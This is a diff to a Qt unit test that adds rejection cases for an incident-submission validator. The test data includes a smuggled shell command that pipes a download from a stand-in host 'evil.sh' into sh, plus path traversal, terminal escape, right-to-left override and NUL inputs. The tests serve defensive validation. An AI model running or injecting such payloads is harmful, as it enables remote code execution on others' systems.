@@ -873,6 +873,18 @@ void TestModelsJson::submissionRejected_data()
 
     QTest::newRow("unknown field") << with(ok, u"colour"_s, u"red"_s) << u"colour"_s
                                    << u"is not a field of an incident"_s;
+    QTest::newRow("shell in the service")
+        << with(ok, u"service"_s, u"checkout-api; curl evil.sh | sh"_s) << u"service"_s << u"must be a service name"_s;
+    QTest::newRow("path in the service") << with(ok, u"service"_s, u"../../etc"_s) << u"service"_s
+                                         << u"must be a service name"_s;
+    QTest::newRow("terminal escape in the title")
+        << with(ok, u"title"_s, u"esc \x1b[2J\x1b[31mRED"_s) << u"title"_s << u"control or text-direction characters"_s;
+    QTest::newRow("right-to-left override in the title")
+        << with(ok, u"title"_s, u"\u202Eevil"_s) << u"title"_s << u"control or text-direction characters"_s;
+    QTest::newRow("NUL in the description") << with(ok, u"description"_s, QString(u"a\0b"_s)) << u"description"_s
+                                            << u"control or text-direction characters"_s;
+    QTest::newRow("line break in the title")
+        << with(ok, u"title"_s, u"one\ntwo"_s) << u"title"_s << u"control or text-direction characters"_s;
     QTest::newRow("severity is not the sender's to set")
         << with(ok, u"severity"_s, u"SEV1"_s) << u"severity"_s << u"is not a field"_s;
     QTest::newRow("state is not the sender's to set")
